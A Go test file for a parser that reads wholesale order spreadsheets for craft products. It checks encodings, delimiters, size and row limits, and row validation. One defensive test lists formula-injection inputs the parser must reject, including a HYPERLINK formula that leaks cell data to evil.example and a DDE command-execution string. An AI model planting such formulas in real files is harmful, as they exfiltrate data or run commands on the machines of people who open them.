package models

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/charmap"
	xunicode "golang.org/x/text/encoding/unicode"
)

// sheetLine is what a good sheet must parse to, whatever its format.
type sheetLine struct {
	Ref string
	Qty int
}

func sheetLines(s *WholesaleSheet) []sheetLine {
	var out []sheetLine
	for _, l := range s.Lines() {
		out = append(out, sheetLine{l.Ref, l.Quantity})
	}
	return out
}

func latin1(t *testing.T, s string) []byte {
	t.Helper()
	b, err := charmap.Windows1252.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatalf("encode %q as Windows-1252: %v", s, err)
	}
	return b
}

func utf16LE(t *testing.T, s string, bom bool) []byte {
	t.Helper()
	policy := xunicode.IgnoreBOM
	if bom {
		policy = xunicode.UseBOM
	}
	b, err := xunicode.UTF16(xunicode.LittleEndian, policy).NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatalf("encode %q as UTF-16: %v", s, err)
	}
	return b
}

func TestParseWholesaleSheet_RealExportsReadTheSame(t *testing.T) {
	want := []sheetLine{{"retablo-herranza", 4}, {"tapiz-camino-wari", 6}}
	cases := []struct {
		name      string
		file      []byte
		encoding  string
		delimiter rune
		header    bool
	}{
		{"comma with header", []byte("slug,cantidad\nretablo-herranza,4\ntapiz-camino-wari,6\n"), SheetUTF8, ',', true},
		{"UTF-8 BOM, semicolon, Spanish header", []byte("\xEF\xBB\xBFproducto;cantidad\r\nretablo-herranza;4\r\ntapiz-camino-wari;6\r\n"), SheetUTF8BOM, ';', true},
		{"Latin-1 with accents and a name column", latin1(t, "Código;Descripción;Cantidad\r\nretablo-herranza;Retablo ayacuchano — la herranza, niño;4\r\ntapiz-camino-wari;Tapiz «Camino wari»;6\r\n"), SheetWindows1252, ';', true},
		{"semicolon, no header", []byte("retablo-herranza;4\ntapiz-camino-wari;6"), SheetUTF8, ';', false},
		{"tab, English header", []byte("Product\tQty\nretablo-herranza\t4\ntapiz-camino-wari\t6\n"), SheetUTF8, '\t', true},
		{"Windows line ends, no final newline", []byte("retablo-herranza,4\r\ntapiz-camino-wari,6"), SheetUTF8, ',', false},
		{"old Mac line ends", []byte("retablo-herranza,4\rtapiz-camino-wari,6\r"), SheetUTF8, ',', false},
		{"blank lines and empty exported rows", []byte("\n\nSKU;Quantity\n\n;;\nretablo-herranza;4;\n   \n;\ntapiz-camino-wari;6;\n\n"), SheetUTF8, ';', true},
		{"quoted cells and spaces", []byte("\"slug\",\"qty\"\n\" retablo-herranza \", \"4\"\n\"tapiz-camino-wari\",6 \n"), SheetUTF8, ',', true},
		{"columns in another order", []byte("Cantidad;Nombre del producto;Código\n4;Retablo;retablo-herranza\n6;Tapiz;tapiz-camino-wari\n"), SheetUTF8, ';', true},
		{"UTF-16 with BOM (Excel Unicode text)", utf16LE(t, "Producto\tCantidad\r\nretablo-herranza\t4\r\ntapiz-camino-wari\t6\r\n", true), SheetUTF16, '\t', true},
		{"quantities formatted with decimals", []byte("retablo-herranza;4,00\ntapiz-camino-wari;6.0\n"), SheetUTF8, ';', false},
		{"decimal comma quoted in a comma file", []byte("retablo-herranza,\"4,00\"\ntapiz-camino-wari,6\n"), SheetUTF8, ',', false},
		{"Excel's sep= line, then a header", []byte("sep=;\r\nSKU;Cantidad\r\nretablo-herranza;4\r\ntapiz-camino-wari;6\r\n"), SheetUTF8, ';', true},
		{"sep= naming the comma, no header", []byte("SEP=,\nretablo-herranza,4\ntapiz-camino-wari,6\n"), SheetUTF8, ',', false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s, err := ReadWholesaleSheet(bytes.NewReader(tc.file))
			if err != nil {
				t.Fatalf("ReadWholesaleSheet: %v", err)
			}
			for _, r := range s.Rows {
				if !r.OK() {
					t.Errorf("row %d (%q, %q) refused: %s", r.Row, r.Ref, r.Quantity, r.Problem.Code)
				}
			}
			if got := sheetLines(s); !slices.Equal(got, want) {
				t.Errorf("lines = %v, want %v", got, want)
			}
			if s.Encoding != tc.encoding || s.Delimiter != tc.delimiter || s.Header != tc.header {
				t.Errorf("read as %s, %q, header %v; want %s, %q, header %v",
					s.Encoding, s.Delimiter, s.Header, tc.encoding, tc.delimiter, tc.header)
			}
		})
	}
}

func TestParseWholesaleSheet_RowsAreNumberedAsTheSpreadsheetShowsThem(t *testing.T) {
	s, err := ParseWholesaleSheet([]byte("producto;cantidad\n\nretablo-herranza;4\n;;\ntapiz-camino-wari;6\n"))
	if err != nil {
		t.Fatal(err)
	}
	var rows []int
	for _, l := range s.Lines() {
		rows = append(rows, l.Row)
	}
	if len(rows) != 2 || rows[0] != 3 || rows[1] != 5 {
		t.Errorf("rows = %v, want [3 5]", rows)
	}
}

func TestParseWholesaleSheet_BadFilesAreRefusedWhole(t *testing.T) {
	rng := rand.New(rand.NewPCG(9, 4))
	garbage := make([]byte, 4096)
	for i := range garbage {
		garbage[i] = byte(rng.UintN(256))
	}
	cases := []struct {
		name string
		file []byte
		code Code
	}{
		{"empty", nil, CodeSheetEmpty},
		{"blank lines only", []byte("\r\n \r\n\t\r\n"), CodeSheetEmpty},
		{"header only", []byte("slug;cantidad\r\n;;\r\n"), CodeSheetEmpty},
		{"an .xlsx workbook", append([]byte("PK\x03\x04\x14\x00\x06\x00"), garbage[:200]...), CodeSheetWorkbook},
		{"an old .xls workbook", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, garbage[:200]...), CodeSheetWorkbook},
		{"random bytes", garbage, CodeSheetNotText},
		{"a PNG picture", append([]byte("\x89PNG\r\n\x1a\n"), []byte("IHDR not a sheet")...), CodeSheetNotText},
		{"text with control bytes", []byte("retablo-herranza;4\x1b[31m\n"), CodeSheetNotText},
		{"UTF-16 without its BOM", utf16LE(t, "retablo-herranza;4\r\n", false), CodeSheetNotText},
		{"wrong encoding: neither UTF-8 nor Windows-1252", []byte("retablo-herranza;4\n\x81\x8D\x90;2\n"), CodeSheetEncoding},
		{"UTF-8 BOM over bytes that are not UTF-8", []byte("\xEF\xBB\xBFretablo;\xE9\xFF\n"), CodeSheetEncoding},
		{"wrong delimiter: pipes", []byte("retablo-herranza|4\ntapiz-camino-wari|6\n"), CodeSheetColumns},
		{"wrong delimiter: spaces", []byte("retablo-herranza 4\ntapiz-camino-wari 6\n"), CodeSheetColumns},
		{"prose, not a sheet", []byte("Estimados señores\nles escribo para pedir retablos\n"), CodeSheetColumns},
		{"over the size limit", bytes.Repeat([]byte("retablo-herranza;4\n"), MaxSheetBytes/19+1), CodeSheetTooLarge},
		{"too many rows", bytes.Repeat([]byte("a;1\n"), MaxSheetRows+1), CodeSheetTooManyRows},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s, err := ParseWholesaleSheet(tc.file)
			var ve *ValidationError
			if !errors.As(err, &ve) {
				t.Fatalf("err = %v (sheet %+v), want a refusal %s", err, s, tc.code)
			}
			if got := ve.Fields["file"].Code; got != tc.code {
				t.Errorf("code = %s, want %s", got, tc.code)
			}
		})
	}
}

// countingReader counts what the parser read of a huge upload.
type countingReader struct {
	r io.Reader
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

func TestReadWholesaleSheet_TenMegabytesStopsAtTheLimit(t *testing.T) {
	huge := &countingReader{r: io.LimitReader(strings.NewReader(strings.Repeat("retablo-herranza;4\n", 600_000)), 10<<20)}
	_, err := ReadWholesaleSheet(huge)
	var ve *ValidationError
	if !errors.As(err, &ve) || ve.Fields["file"].Code != CodeSheetTooLarge {
		t.Fatalf("err = %v, want %s", err, CodeSheetTooLarge)
	}
	if max := int64(MaxSheetBytes + 64<<10); huge.n > max {
		t.Errorf("read %d bytes of a 10 MB file, want at most about the limit (%d)", huge.n, max)
	}
}

func TestParseWholesaleSheet_HundredThousandRowsRefusedFast(t *testing.T) {
	file := bytes.Repeat([]byte("a;1\r\n"), 100_000) // 500 kB: under the size limit
	start := time.Now()
	_, err := ParseWholesaleSheet(file)
	took := time.Since(start)
	var ve *ValidationError
	if !errors.As(err, &ve) || ve.Fields["file"].Code != CodeSheetTooManyRows {
		t.Fatalf("err = %v, want %s", err, CodeSheetTooManyRows)
	}
	if ve.Fields["file"].Args["Max"] != MaxSheetRows {
		t.Errorf("args = %v, want Max %d", ve.Fields["file"].Args, MaxSheetRows)
	}
	// Reading stops at row 2,001: far below a second even on a busy
	// machine (it takes a few milliseconds).
	if took > time.Second {
		t.Errorf("refusing 100,000 rows took %v", took)
	}
}

func TestParseWholesaleSheet_BadRowsSayWhy(t *testing.T) {
	cases := []struct {
		name string
		row  string // one row of a ";" sheet with a header
		code Code
		ref  string // the reference as shown back, when it matters
	}{
		{"HYPERLINK formula as product", `=HYPERLINK("http://evil.example/?x="&A1;"retablo");4`, CodeSheetFormula, `=HYPERLINK("http://evil.example/?x="&A1`},
		{"quoted HYPERLINK formula", `"=HYPERLINK(""http://evil.example"";""retablo"")";4`, CodeSheetFormula, `=HYPERLINK("http://evil.example";"retablo")`},
		{"plus formula", "+cmd|' /C calc'!A0;4", CodeSheetFormula, ""},
		{"minus formula", "-2+3;4", CodeSheetFormula, ""},
		{"at formula", "@SUM(A1:A9);4", CodeSheetFormula, ""},
		{"formula after spaces", "  =1+1;4", CodeSheetFormula, "=1+1"},
		{"formula as quantity", "retablo-herranza;=2*3", CodeSheetFormula, ""},
		{"negative quantity", "retablo-herranza;-4", CodeSheetQtyNegative, ""},
		{"zero quantity", "retablo-herranza;0", CodeSheetQtyZero, ""},
		{"zeros quantity", "retablo-herranza;000", CodeSheetQtyZero, ""},
		{"fraction with a point", "retablo-herranza;1.5", CodeSheetQtyWhole, ""},
		{"fraction with a comma", "retablo-herranza;1,5", CodeSheetQtyWhole, ""},
		{"thousands separator", "retablo-herranza;1.000", CodeSheetQtyWhole, ""},
		{"words as quantity", "retablo-herranza;doce", CodeSheetQtyNumber, ""},
		{"units after the number", "retablo-herranza;12 uds", CodeSheetQtyNumber, ""},
		{"missing quantity", "retablo-herranza;", CodeSheetQtyMissing, ""},
		{"no quantity column", "retablo-herranza", CodeSheetQtyMissing, ""},
		{"huge quantity", "retablo-herranza;99999999999999999999999", CodeSheetQtyTooLarge, ""},
		{"quantity over the maximum", "retablo-herranza;10001", CodeSheetQtyTooLarge, ""},
		{"missing product", ";4", CodeSheetRefMissing, ""},
		{"product too long", strings.Repeat("x", maxSheetRef+1) + ";4", CodeSheetRefTooLong, ""},
		{"quote never closed", "\"retablo-herranza;4\ntapiz;6", CodeSheetQuote, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s, err := ParseWholesaleSheet([]byte("slug;cantidad\ntapiz-camino-wari;6\n" + tc.row + "\n\n"))
			if err != nil {
				t.Fatalf("ParseWholesaleSheet: %v", err)
			}
			if len(s.Rows) != 2 {
				t.Fatalf("rows = %+v, want 2", s.Rows)
			}
			good, bad := s.Rows[0], s.Rows[1]
			if !good.OK() || good.Line.Ref != "tapiz-camino-wari" || good.Line.Quantity != 6 {
				t.Errorf("good row = %+v", good)
			}
			if bad.Problem.Code != tc.code || bad.Row != 3 {
				t.Errorf("row %d problem = %s, want row 3 %s", bad.Row, bad.Problem.Code, tc.code)
			}
			if tc.ref != "" && bad.Ref != tc.ref {
				t.Errorf("ref = %q, want %q", bad.Ref, tc.ref)
			}
			if lines := s.Lines(); len(lines) != 1 {
				t.Errorf("lines = %+v, want only the good row", lines)
			}
		})
	}
}

func TestParseWholesaleRow_FromThePreviewForm(t *testing.T) {
	r := ParseWholesaleRow(7, " retablo-herranza ", " 12 ", true)
	want := WholesaleLineInput{Row: 7, Ref: "retablo-herranza", Quantity: 12, MadeToOrder: true}
	if !r.OK() || r.Line != want {
		t.Errorf("row = %+v, want line %+v", r, want)
	}
	if r := ParseWholesaleRow(7, "retablo-herranza", "1,5", true); r.OK() || r.Line != (WholesaleLineInput{}) {
		t.Errorf("a fraction became a line: %+v", r)
	}
	if r := ParseWholesaleRow(2, strings.Repeat("=", 5000), "1", false); len([]rune(r.Ref)) > maxSheetShown+1 {
		t.Errorf("a refused 5,000-rune cell is kept whole (%d runes)", len([]rune(r.Ref)))
	}
}

// A full sheet: 2,000 rows, the most a file may have, near the 1 MB limit
// with a long name column.
func BenchmarkParseWholesaleSheet_FullSheet(b *testing.B) {
	var buf bytes.Buffer
	buf.WriteString("Código;Descripción;Cantidad\r\n")
	for i := range MaxSheetRows {
		fmt.Fprintf(&buf, "retablo-%04d;%s;%d\r\n", i, strings.Repeat("Retablo ayacuchano, niño ", 18), i%50+1)
	}
	file := buf.Bytes()
	b.SetBytes(int64(len(file)))
	for b.Loop() {
		if _, err := ParseWholesaleSheet(file); err != nil {
			b.Fatal(err)
		}
	}
}
